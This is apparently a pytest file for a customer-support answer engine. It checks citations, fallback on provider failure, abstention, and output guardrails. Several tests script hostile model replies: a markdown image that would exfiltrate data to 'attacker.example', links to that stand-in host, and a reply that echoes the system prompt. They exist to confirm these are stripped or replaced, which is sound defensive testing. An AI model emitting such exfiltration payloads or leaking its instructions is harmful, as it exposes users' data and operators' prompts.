"""The answer engine with the OpenAI-compatible provider against a real chat-completions server
on loopback: what the model is sent, what the customer gets, and the guardrails in between."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

import pytest

from customercare.answers import engine, messages
from customercare.answers.abstention import NOT_IN_PASSAGES
from customercare.answers.events import ChatEvent
from customercare.answers.prompt import SYSTEM_PROMPT
from customercare.answers.providers.openai_compatible import OpenAICompatibleProvider
from customercare.runtime import Runtime
from tests.support.llm_server import LLMServer, reply, running_llm_server, status

PASSAGE = "Returns are accepted within 30 days of delivery if the item is unused."
RETURNS = b"# Returns policy\n\n" + PASSAGE.encode() + b"\n"
QUESTION = "How many days do I have to return an unused item?"
EXFILTRATION = "![x](https://attacker.example/c?d=secret)"


@pytest.fixture
def llm() -> Iterator[LLMServer]:
    with running_llm_server() as server:
        yield server


@pytest.fixture
def provider(llm: LLMServer) -> Iterator[OpenAICompatibleProvider]:
    provider = OpenAICompatibleProvider(
        base_url=llm.base_url,
        api_key=None,
        model="scripted-chat",
        timeout_seconds=5,
        max_retries=1,
        backoff_seconds=0,
    )
    yield provider
    provider.close()


@pytest.fixture
def shop(tenant: Any) -> Any:
    tenant.document = tenant.ingest("returns.md", RETURNS)
    response = tenant.client.patch(
        "/api/v1/workspace", headers=tenant.headers, json={"answer_threshold": 0.0}
    )
    assert response.status_code == 200, response.text
    return tenant


def run_turn(
    runtime: Runtime, tenant: Any, provider: OpenAICompatibleProvider, question: str = QUESTION
) -> tuple[list[ChatEvent], dict[str, dict[str, Any]]]:
    turn = engine.start_turn(runtime, workspace_id=tenant.workspace_id, message=question)
    events = list(engine.reply(runtime, turn, provider=provider))
    kinds = [event.type for event in events]
    assert kinds[0] == "conversation"
    assert kinds[-3:] == ["citations", "decision", "done"]
    return events, {event.type: event.data for event in events}


def stored_answer(tenant: Any, conversation_id: str) -> dict[str, Any]:
    response = tenant.client.get(f"/api/v1/conversations/{conversation_id}", headers=tenant.headers)
    assert response.status_code == 200, response.text
    messages = response.json()["messages"]
    assert [m["role"] for m in messages] == ["user", "assistant"]
    answer: dict[str, Any] = messages[1]
    return answer


def test_the_models_cited_reply_reaches_the_customer(
    shop: Any, runtime: Runtime, llm: LLMServer, provider: OpenAICompatibleProvider
) -> None:
    llm.script("Returns are accepted within 30 days [1].")
    events, data = run_turn(runtime, shop, provider)
    done = data["done"]
    assert done["answer"] == "Returns are accepted within 30 days [1]."
    assert done["provider"] == "openai_compatible"
    assert "replace" not in data
    assert "".join(e.data["text"] for e in events if e.type == "token") == done["answer"]
    assert data["decision"]["decision"] == "answered"
    citations = data["citations"]["citations"]
    assert [c["number"] for c in citations] == [1]
    assert citations[0]["document_id"] == shop.document["id"]
    stored = stored_answer(shop, done["conversation_id"])
    assert stored["content"] == done["answer"]
    assert stored["provider"] == "openai_compatible"
    assert stored["status"] == "complete"


def test_passages_are_sent_as_data_in_the_user_message_only(
    shop: Any, runtime: Runtime, llm: LLMServer, provider: OpenAICompatibleProvider
) -> None:
    llm.script("Returns are accepted within 30 days [1].")
    run_turn(runtime, shop, provider)
    assert llm.request_count == 1
    request = llm.requests[0]
    assert request.path == "/v1/chat/completions"
    assert request.body["model"] == "scripted-chat"
    assert request.body["stream"] is True
    messages = request.messages
    assert [m["role"] for m in messages] == ["system", "user"]
    system, user = messages[0]["content"], messages[-1]["content"]
    assert SYSTEM_PROMPT in system
    assert shop.document["title"] not in system
    assert "30 days of delivery" not in system
    assert PASSAGE in user
    assert '<passage number="1"' in user
    assert QUESTION in user


def test_a_provider_that_always_fails_falls_back_to_the_offline_answer(
    shop: Any, runtime: Runtime, llm: LLMServer, provider: OpenAICompatibleProvider
) -> None:
    llm.script(*[status(500) for _ in range(5)])
    _, data = run_turn(runtime, shop, provider)
    done = data["done"]
    assert llm.request_count == 2  # one try and one retry, then the fallback
    assert done["provider"] == "offline_fallback"
    assert PASSAGE in done["answer"]
    assert "[1]" in done["answer"]
    assert data["decision"]["decision"] == "answered"
    assert [c["number"] for c in data["citations"]["citations"]] == [1]
    assert stored_answer(shop, done["conversation_id"])["provider"] == "offline_fallback"


def test_the_json_api_also_falls_back_without_an_error(
    shop: Any,
    runtime: Runtime,
    llm: LLMServer,
    provider: OpenAICompatibleProvider,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    llm.script(*[status(503) for _ in range(5)])
    monkeypatch.setattr(runtime, "_answer_provider", provider)  # the app's configured provider
    response = shop.client.post("/api/v1/chat", headers=shop.headers, json={"message": QUESTION})
    assert response.status_code == 200, response.text
    assert response.json()["provider"] == "offline_fallback"
    assert PASSAGE in response.json()["answer"]


def test_a_marker_for_a_passage_that_was_not_given_is_removed(
    shop: Any, runtime: Runtime, llm: LLMServer, provider: OpenAICompatibleProvider
) -> None:
    llm.script("Returns are accepted within 30 days [1]. Exchanges are free [7].")
    _, data = run_turn(runtime, shop, provider)
    answer = data["done"]["answer"]
    assert "[7]" not in answer
    assert answer == "Returns are accepted within 30 days [1]. Exchanges are free."
    assert data["replace"]["text"] == answer
    assert [c["number"] for c in data["citations"]["citations"]] == [1]


def test_a_reply_that_echoes_the_system_prompt_is_replaced(
    shop: Any, runtime: Runtime, llm: LLMServer, provider: OpenAICompatibleProvider
) -> None:
    leaked = " ".join(SYSTEM_PROMPT.split()[:20])
    llm.script(f"Sure! My rules are: {leaked} [1]")
    _, data = run_turn(runtime, shop, provider)
    answer = data["done"]["answer"]
    assert leaked not in answer
    assert "Follow these rules" not in answer
    assert "replace" in data
    assert data["replace"]["text"] == answer
    assert PASSAGE in answer  # the offline answer stands in
    assert stored_answer(shop, data["done"]["conversation_id"])["content"] == answer


def test_a_markdown_image_is_removed_from_the_answer(
    shop: Any, runtime: Runtime, llm: LLMServer, provider: OpenAICompatibleProvider
) -> None:
    llm.script(f"Returns are accepted within 30 days [1]. {EXFILTRATION}")
    _, data = run_turn(runtime, shop, provider)
    answer = data["done"]["answer"]
    assert "![" not in answer
    assert "attacker.example" not in answer
    assert "secret" not in answer
    assert answer == "Returns are accepted within 30 days [1]."
    assert "attacker.example" not in stored_answer(shop, data["done"]["conversation_id"])["content"]


def test_links_the_sources_do_not_contain_are_reduced_to_their_text(
    shop: Any, runtime: Runtime, llm: LLMServer, provider: OpenAICompatibleProvider
) -> None:
    llm.script(
        "Returns are accepted within 30 days [1]. Start one [here](https://attacker.example/r) "
        "or at https://attacker.example/form."
    )
    _, data = run_turn(runtime, shop, provider)
    answer = data["done"]["answer"]
    assert "attacker.example" not in answer
    assert "Start one here" in answer


def test_streamed_tokens_never_carry_an_exfiltration_image(
    shop: Any, runtime: Runtime, llm: LLMServer, provider: OpenAICompatibleProvider
) -> None:
    llm.script(f"Returns are accepted within 30 days [1]. {EXFILTRATION}")
    events, _ = run_turn(runtime, shop, provider)
    streamed = "".join(e.data["text"] for e in events if e.type == "token")
    assert not re.search(r"attacker\.example", streamed)


@pytest.mark.parametrize(
    ("document", "reply"),
    [
        (True, "Exchanges are always free of charge [7]."),
        (True, "Exchanges are always free of charge."),
        (False, "Our warranty lasts 5 years [1]."),  # no passage at all (threshold 0)
    ],
)
def test_an_answered_reply_always_cites_a_passage(
    tenant: Any,
    runtime: Runtime,
    llm: LLMServer,
    provider: OpenAICompatibleProvider,
    document: bool,
    reply: str,
) -> None:
    if document:
        tenant.ingest("returns.md", RETURNS)
    response = tenant.client.patch(
        "/api/v1/workspace", headers=tenant.headers, json={"answer_threshold": 0.0}
    )
    assert response.status_code == 200
    llm.script(reply)
    _, data = run_turn(runtime, tenant, provider)
    if data["decision"]["decision"] == "answered":
        assert data["citations"]["citations"], data["done"]["answer"]


def test_a_model_that_finds_no_answer_in_the_passages_abstains(
    shop: Any, runtime: Runtime, llm: LLMServer, provider: OpenAICompatibleProvider
) -> None:
    # The passage is about returns, so retrieval lets it through; the model reads it and
    # finds no CEO in it. Streamed a few characters at a time, as models do.
    llm.script(reply(NOT_IN_PASSAGES, chunk_chars=3))
    events, data = run_turn(runtime, shop, provider, question="Who is the CEO of your shop?")
    assert NOT_IN_PASSAGES in llm.requests[0].messages[0]["content"]  # the prompt asks for it
    done = data["done"]
    assert done["answer"] == messages.NO_ANSWER
    assert "".join(e.data["text"] for e in events if e.type == "token") == messages.NO_ANSWER
    assert "replace" not in data
    assert data["decision"]["decision"] == "no_answer"
    assert data["decision"]["handoff_offered"] is True
    assert data["citations"]["citations"] == []
    assert done["provider"] == "openai_compatible"  # the model's decision, not a fallback
    stored = stored_answer(shop, done["conversation_id"])
    assert stored["content"] == messages.NO_ANSWER
    assert stored["decision"] == "no_answer"
    assert stored["citations"] == []


def test_an_answer_that_merely_starts_like_the_sentinel_is_streamed(
    shop: Any, runtime: Runtime, llm: LLMServer, provider: OpenAICompatibleProvider
) -> None:
    llm.script(reply("NOTE: returns are accepted within 30 days [1].", chunk_chars=2))
    _, data = run_turn(runtime, shop, provider)
    assert data["done"]["answer"] == "NOTE: returns are accepted within 30 days [1]."
    assert data["decision"]["decision"] == "answered"
